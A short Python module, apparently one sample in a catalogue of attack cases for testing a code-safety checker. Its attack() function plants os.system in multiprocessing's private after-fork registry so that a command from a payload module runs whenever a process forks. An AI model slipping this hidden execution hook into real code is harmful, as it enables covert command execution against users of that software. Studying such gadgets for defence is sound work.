"""What multiprocessing calls after it has forked is written by hand."""
CATEGORY = "deferred"
REACH = "run"
SILENT = "It is called with nothing, which is an error."

import os
from multiprocessing import util

from . import payload


class Command(str):
    pass


command = Command(payload.COMMAND)


def attack():
    util._afterfork_registry[-1, 0, os.system] = command
